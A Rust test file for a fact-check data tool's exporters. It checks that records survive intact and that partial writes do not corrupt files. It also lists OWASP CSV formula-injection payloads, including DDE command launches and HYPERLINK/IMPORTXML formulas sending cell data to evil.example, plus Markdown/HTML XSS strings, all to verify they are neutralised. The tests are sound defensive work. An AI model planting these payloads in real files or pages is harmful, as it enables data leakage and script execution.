//! What factkit writes is safe to open and loses nothing: every record and every field of
//! the input is in the JSON, JSON Lines and CSV exports; CSV cells from OWASP's list of
//! formula-injection payloads cannot run in a spreadsheet; Markdown cells holding script,
//! event-handler and `javascript:` payloads render as text; and a write that fails or is
//! killed half-way leaves the previous file intact.

use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};
use std::process::Command;

use factkit::export::{self, Format, Options};
use factkit::model::{Kind, PartialDate};
use factkit::{Config, Report};
use serde_json::{json, Value};

fn config() -> Config {
    Config {
        as_of: PartialDate::parse("2026-11-28").unwrap().first(),
        ..Config::default()
    }
}

fn check(path: &Path) -> Report {
    factkit::check(&[path.to_path_buf()], &config()).unwrap()
}

fn render(report: &Report, format: Format, options: &Options) -> String {
    let mut out = Vec::new();
    export::to_writer(report, format, options, &mut out).unwrap();
    String::from_utf8(out).unwrap()
}

/// One dataset with every optional field of every kind filled, each alternative
/// (`quote`/`paraphrase`, `on`/`period`, `currency`/`unit`) at least once.
fn full_records() -> Vec<Value> {
    vec![
        json!({"kind": "entity", "id": "org", "type": "organization", "name": "Org",
               "role": "ministry", "affiliation": "person", "country": "KZ",
               "same_as": ["https://example.org/org"], "notes": "n1", "tags": ["t1", "t2"]}),
        json!({"kind": "entity", "id": "person", "type": "person", "name": "Person",
               "role": "minister", "affiliation": "org", "country": "US",
               "same_as": ["https://example.org/p", "https://example.org/q"], "notes": "n2", "tags": []}),
        json!({"kind": "source", "id": "src", "title": "Title", "publisher": "Pub",
               "url": "https://example.org/a", "published": "2025-09-10", "retrieved": "2025-09-11",
               "language": "en", "archive": "archive.txt", "notes": "n3", "tags": ["t3"]}),
        json!({"kind": "statement", "id": "quote", "speaker": "person", "quote": "We said it.",
               "source": "src", "said_on": "2025-09", "about": ["stat"], "language": "en",
               "notes": "n4", "tags": ["t4"]}),
        json!({"kind": "statement", "id": "para", "speaker": "org", "paraphrase": "They said so.",
               "source": "src", "said_on": "2025", "about": ["proposal", "quote"], "language": "ru",
               "notes": "n5", "tags": ["t5"]}),
        json!({"kind": "proposal", "id": "proposal", "title": "Plan", "proposer": "person",
               "status": "under_discussion", "source": "src", "summary": "Do it",
               "proposed_on": "2025-09-08", "venue": "Parliament", "supporters": ["org"],
               "elements": ["one", "two"], "notes": "n6", "tags": ["t6"]}),
        json!({"kind": "statistic", "id": "stat", "label": "Output",
               "value": {"amount": "14", "scale": "trillion", "currency": "KZT", "qualifier": "over"},
               "equivalents": [{"amount": "26.2", "scale": "billion", "currency": "USD", "qualifier": "about"}],
               "source": "src", "period": "2024-01/2024-06", "attributed_to": "person",
               "sum_of": ["part"], "notes": "n7", "tags": ["t7"]}),
        json!({"kind": "statistic", "id": "part", "label": "Part",
               "value": {"amount": 1.100, "unit": "percent", "qualifier": "exact"},
               "source": "src", "period": "2024", "attributed_to": "org",
               "ratio_of": {"numerator": "stat", "denominator": "stat"},
               "restates": "stat", "change_of": {"from": "stat", "to": "stat"}, "notes": "n8", "tags": ["t8"]}),
        json!({"kind": "exchange_rate", "id": "rate-on", "base": "USD", "quote": "KZT",
               "rate": "534.35", "source": "src", "on": "2025-09-10", "notes": "n9", "tags": ["t9"]}),
        json!({"kind": "exchange_rate", "id": "rate-period", "base": "EUR", "quote": "KZT",
               "rate": 600.1, "source": "src", "period": "2025-01/2025-06", "notes": "n10", "tags": []}),
        json!({"kind": "review", "id": "review", "about": "quote", "rating": "mixed",
               "reviewer": "person", "reviewed_on": "2025-10-06", "explanation": "Because.",
               "url": "https://factcheck.example/r", "notes": "n11", "tags": ["t11"]}),
    ]
}

/// The full dataset covers every property of every bundled schema, so a field added to a
/// schema but not to an exporter fails [`every_field_is_in_every_export`].
#[test]
fn the_full_dataset_fills_every_field_of_every_schema() {
    let records = full_records();
    for kind in Kind::ALL {
        let schema: Value = serde_json::from_str(factkit::bundled_schema(Some(kind))).unwrap();
        let wanted: BTreeSet<&str> = schema["properties"]
            .as_object()
            .unwrap()
            .keys()
            .map(String::as_str)
            .collect();
        let have: BTreeSet<&str> = records
            .iter()
            .filter(|r| r["kind"] == kind.as_str())
            .flat_map(|r| r.as_object().unwrap().keys().map(String::as_str))
            .collect();
        assert_eq!(have, wanted, "{kind}");
    }
}

/// Writes `records` as one JSON file, the `1.100` amount with its trailing zeros.
fn dataset(records: &[Value]) -> (tempfile::TempDir, Report) {
    let dir = tempfile::tempdir().unwrap();
    let text = serde_json::to_string_pretty(records)
        .unwrap()
        .replace("1.1,", "1.100,");
    std::fs::write(dir.path().join("records.json"), text).unwrap();
    std::fs::write(dir.path().join("archive.txt"), "We said it.").unwrap();
    let report = check(dir.path());
    (dir, report)
}

/// Every leaf of `value` as (JSON Pointer, value), arrays as leaves. An empty list is left
/// out: normalised records omit it (`"tags": []` says the same as no `tags`), and that is the
/// one difference the exports may make.
fn leaves(value: &Value, at: String, out: &mut BTreeMap<String, Value>) {
    match value {
        Value::Array(items) if items.is_empty() => {}
        Value::Object(map) => {
            for (k, v) in map {
                leaves(v, format!("{at}/{k}"), out);
            }
        }
        other => {
            out.insert(at, other.clone());
        }
    }
}

/// The records of every file of the dataset at `path`, as read.
fn input_records(path: &Path) -> Vec<Value> {
    let (dataset, findings) = factkit::load(&[path.to_path_buf()]).unwrap();
    assert!(findings.is_empty(), "{findings:#?}");
    dataset.entries.into_iter().map(|e| e.value).collect()
}

/// `value` with numbers and strings compared by their text.
fn text_of(value: &Value) -> String {
    match value {
        Value::String(s) => s.clone(),
        other => other.to_string(),
    }
}

fn assert_nothing_lost(path: &Path, report: &Report) {
    let input = input_records(path);
    assert!(
        report.dataset.entries.iter().all(|e| e.record.is_some()),
        "{:#?}",
        report.diagnostics
    );
    let by_id = |records: &[Value]| -> BTreeMap<String, Value> {
        records
            .iter()
            .map(|r| (r["id"].as_str().unwrap().to_owned(), r.clone()))
            .collect()
    };
    let inputs = by_id(&input);
    // JSON and JSON Lines: every record, every leaf, with the same text.
    let json: Vec<Value> =
        serde_json::from_str(&render(report, Format::Json, &Options::default())).unwrap();
    let jsonl: Vec<Value> = render(report, Format::JsonLines, &Options::default())
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    for (name, output) in [("json", &json), ("jsonl", &jsonl)] {
        let outputs = by_id(output);
        assert_eq!(outputs.len(), inputs.len(), "{name}: {}", path.display());
        for (id, record) in &inputs {
            let mut want = BTreeMap::new();
            leaves(record, String::new(), &mut want);
            let mut got = BTreeMap::new();
            leaves(&outputs[id], String::new(), &mut got);
            assert_eq!(
                want.iter()
                    .map(|(k, v)| (k, text_of(v)))
                    .collect::<Vec<_>>(),
                got.iter().map(|(k, v)| (k, text_of(v))).collect::<Vec<_>>(),
                "{name}: record `{id}` of {}",
                path.display()
            );
        }
    }
    // CSV: one file per kind; every leaf of every record in its dotted column.
    let mut rows = 0;
    for kind in export::kinds(report, &Options::default()) {
        let options = Options {
            kind: Some(kind),
            ..Options::default()
        };
        let text = render(report, Format::Csv, &options);
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let headers = reader.headers().unwrap().clone();
        for row in reader.records() {
            let row = row.unwrap();
            rows += 1;
            let cell = |column: &str| -> Option<String> {
                let i = headers.iter().position(|h| h == column)?;
                let c = row.get(i)?;
                // OWASP neutralisation adds a `'` before a formula-like cell.
                let formula = c.len() > 1 && c.starts_with('\'') && "=+-@\t\r".contains(&c[1..2]);
                Some(if formula {
                    c[1..].to_owned()
                } else {
                    c.to_owned()
                })
            };
            let id = cell("id").unwrap();
            let record = &inputs[&id];
            let mut want = BTreeMap::new();
            leaves(record, String::new(), &mut want);
            for (pointer, value) in want {
                let column = pointer[1..].replace('/', ".");
                if let ("equivalents", Value::Array(list)) = (column.as_str(), &value) {
                    // The first two equivalents have columns of their own, the rest one cell.
                    for (k, q) in list.iter().enumerate().take(2) {
                        for (field, v) in q.as_object().unwrap() {
                            let field = match field.as_str() {
                                "currency" | "unit" => "currency_or_unit",
                                other => other,
                            };
                            let column = format!("equivalent{}.{field}", k + 1);
                            assert_eq!(cell(&column).unwrap(), text_of(v), "`{id}` {column}");
                        }
                    }
                    let more = cell("equivalents.more").unwrap();
                    match list.get(2..) {
                        Some(rest) if !rest.is_empty() => assert_eq!(
                            serde_json::from_str::<Value>(&more).unwrap().to_string(),
                            Value::Array(rest.to_vec()).to_string()
                        ),
                        _ => assert_eq!(more, ""),
                    }
                    continue;
                }
                let got = cell(&column)
                    .unwrap_or_else(|| panic!("{kind}: no column `{column}` for `{id}`"));
                match value {
                    Value::Array(_) => {
                        let parsed: Value = serde_json::from_str(&got).unwrap();
                        assert_eq!(
                            parsed.to_string(),
                            value.to_string(),
                            "{kind} `{id}` {column}"
                        );
                    }
                    other => assert_eq!(got, text_of(&other), "{kind} `{id}` {column}"),
                }
            }
        }
    }
    assert_eq!(rows, inputs.len(), "CSV rows of {}", path.display());
}

#[test]
fn every_field_is_in_every_export() {
    let (dir, report) = dataset(&full_records());
    assert_nothing_lost(dir.path(), &report);
}

#[test]
fn every_record_of_the_examples_is_in_every_export() {
    for example in ["kazakhstan-2025", "quotes-demo"] {
        let path = PathBuf::from("examples").join(example);
        let report = check(&path);
        assert_nothing_lost(&path, &report);
    }
}

/// A field no schema knows is rejected, never exported silently without it.
#[test]
fn an_unknown_field_is_rejected_by_the_schema() {
    let mut records = full_records();
    records[0]["population"] = json!(5);
    let (_dir, report) = dataset(&records);
    assert!(report.dataset.entries[0].record.is_none());
    assert!(report
        .diagnostics
        .iter()
        .any(|d| d.rule == "schema" && d.message.contains("population")));
}

/// OWASP's CSV injection payloads
/// (<https://owasp.org/www-community/attacks/CSV_Injection>), and their variants.
const OWASP_CSV: &[&str] = &[
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example?leak=\"&A1&A2,\"Error: click here\")",
    "=IMPORTXML(CONCAT(\"http://evil.example?v=\", CONCATENATE(A2:E2)), \"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
    "\t=1+1",
    "\r=1+1",
    "=+1",
    "+=1",
    "-=1",
    "@=1",
];

#[test]
fn csv_neutralises_every_owasp_payload() {
    let records: Vec<Value> = OWASP_CSV
        .iter()
        .enumerate()
        .map(|(i, payload)| {
            json!({"kind": "entity", "id": format!("e{i}"), "type": "person", "name": payload,
                   "role": payload, "notes": payload, "tags": [payload]})
        })
        .collect();
    let (_dir, report) = dataset(&records);
    assert_eq!(report.summary.errors, 0, "{:#?}", report.diagnostics);
    let options = Options {
        kind: Some(Kind::Entity),
        ..Options::default()
    };
    let text = render(&report, Format::Csv, &options);
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let mut seen = 0;
    for (row, payload) in reader.records().zip(OWASP_CSV) {
        let row = row.unwrap();
        for column in ["name", "role", "notes"] {
            let i = headers.iter().position(|h| h == column).unwrap();
            assert_eq!(&row[i], format!("'{payload}"), "{column}");
            seen += 1;
        }
        // The list cell is JSON: it starts with `[`.
        let i = headers.iter().position(|h| h == "tags").unwrap();
        assert!(row[i].starts_with('['), "{}", &row[i]);
        for cell in row.iter() {
            let first = cell.chars().next().unwrap_or(' ');
            assert!(
                !"=+-@\t\r".contains(first),
                "a cell starts like a formula: {cell:?}"
            );
        }
    }
    assert_eq!(seen, OWASP_CSV.len() * 3);
}

/// Markdown and HTML payloads: script, event handlers, `javascript:` links, raw HTML.
const MARKDOWN_PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "[click](javascript:alert(1))",
    "](javascript:alert(1))",
    "[x]( javascript:alert(1) )",
    "<a href=\"javascript:alert(1)\">x</a>",
    "![img](javascript:alert(1))",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<details open ontoggle=alert(1)>",
    "[ref]: javascript:alert(1)",
    "<https://evil.example>",
    "| fake | cell |",
    "`</td><script>alert(1)</script>`",
];

#[test]
fn markdown_renders_every_payload_as_text() {
    use pulldown_cmark::{Event, Options as MdOptions, Parser, Tag};
    let records: Vec<Value> = MARKDOWN_PAYLOADS
        .iter()
        .enumerate()
        .map(|(i, payload)| {
            json!({"kind": "entity", "id": format!("e{i}"), "type": "person", "name": payload,
                   "role": payload, "notes": payload})
        })
        .collect();
    let (_dir, report) = dataset(&records);
    assert_eq!(report.summary.errors, 0, "{:#?}", report.diagnostics);
    let md = render(&report, Format::Markdown, &Options::default());
    let mut text = String::new();
    for event in Parser::new_ext(&md, MdOptions::ENABLE_TABLES) {
        match event {
            Event::Html(h) | Event::InlineHtml(h) => panic!("raw HTML in the table: {h}\n{md}"),
            Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => {
                assert!(
                    !dest_url
                        .trim()
                        .to_ascii_lowercase()
                        .starts_with("javascript:"),
                    "a javascript: link: {dest_url}\n{md}"
                );
            }
            Event::Text(t) | Event::Code(t) => text.push_str(&t),
            _ => {}
        }
    }
    for payload in MARKDOWN_PAYLOADS {
        assert!(
            text.contains(payload),
            "{payload:?} is not shown as text in\n{md}"
        );
    }
}

// ---------------------------------------------------------------------------------------
// A write that fails half-way, or a process killed half-way, in the real binary.

#[cfg(unix)]
fn run_with_file_size_limit(
    dir: &Path,
    args: &[&str],
    limit: u64,
    ignore_signal: bool,
) -> (i32, String) {
    use std::os::unix::process::{CommandExt, ExitStatusExt};
    let mut command = Command::new(env!("CARGO_BIN_EXE_factkit"));
    command.args(args).current_dir(dir).env("NO_COLOR", "1");
    // SAFETY: only async-signal-safe calls between fork and exec.
    unsafe {
        command.pre_exec(move || {
            let rl = libc::rlimit {
                rlim_cur: limit,
                rlim_max: limit,
            };
            if libc::setrlimit(libc::RLIMIT_FSIZE, &rl) != 0 {
                return Err(std::io::Error::last_os_error());
            }
            if ignore_signal {
                libc::signal(libc::SIGXFSZ, libc::SIG_IGN);
            }
            Ok(())
        });
    }
    let out = command.output().unwrap();
    let code = out
        .status
        .code()
        .unwrap_or_else(|| -out.status.signal().unwrap());
    (code, String::from_utf8_lossy(&out.stderr).into_owned())
}

#[cfg(unix)]
fn big_dataset(dir: &Path) {
    let records: Vec<Value> = (0..2000)
        .map(|i| {
            json!({"kind": "entity", "id": format!("e{i}"), "type": "person",
                        "name": format!("Person number {i} with a long enough name")})
        })
        .collect();
    std::fs::create_dir(dir.join("data")).unwrap();
    std::fs::write(
        dir.join("data/records.json"),
        serde_json::to_string(&records).unwrap(),
    )
    .unwrap();
    std::fs::write(dir.join("out.json"), "previous export\n").unwrap();
}

#[cfg(unix)]
fn leftovers(dir: &Path) -> Vec<String> {
    std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with(".factkit-"))
        .collect()
}

/// The disk fills up half-way through the export (RLIMIT_FSIZE makes the write fail with
/// EFBIG): the run fails with exit 2, the old file is intact and no temporary file is left.
#[cfg(unix)]
#[test]
fn a_write_that_fails_half_way_leaves_the_old_file_and_no_temporary_file() {
    for (args, out) in [
        (
            vec!["export", "--to", "json", "data", "-o", "out.json"],
            "out.json",
        ),
        (
            vec!["convert", "data/records.json", "-o", "out.json"],
            "out.json",
        ),
        (
            vec!["check", "data", "--format", "sarif", "-o", "out.json"],
            "out.json",
        ),
    ] {
        let dir = tempfile::tempdir().unwrap();
        big_dataset(dir.path());
        let (code, stderr) = run_with_file_size_limit(dir.path(), &args, 4096, true);
        assert_eq!(code, 2, "{args:?}");
        assert!(
            stderr.contains("cannot write `out.json`: File too large"),
            "{args:?}: {stderr}"
        );
        assert_eq!(
            std::fs::read_to_string(dir.path().join(out)).unwrap(),
            "previous export\n",
            "{args:?}"
        );
        assert_eq!(leftovers(dir.path()), Vec::<String>::new(), "{args:?}");
    }
}

/// The process is killed half-way through writing (SIGXFSZ, whose default action kills it,
/// is raised by the write that crosses RLIMIT_FSIZE): the old file is intact. A killed
/// process cannot clean up, so its temporary file may remain; it is a hidden
/// `.factkit-*.tmp` file beside the target, never the target itself.
#[cfg(unix)]
#[test]
fn a_process_killed_half_way_leaves_the_old_file_intact() {
    let dir = tempfile::tempdir().unwrap();
    big_dataset(dir.path());
    let args = ["export", "--to", "json", "data", "-o", "out.json"];
    let (code, _) = run_with_file_size_limit(dir.path(), &args, 4096, false);
    assert_eq!(code, -libc::SIGXFSZ, "killed by the signal");
    assert_eq!(
        std::fs::read_to_string(dir.path().join("out.json")).unwrap(),
        "previous export\n"
    );
    for name in leftovers(dir.path()) {
        assert!(name.ends_with(".tmp"), "{name}");
    }
}
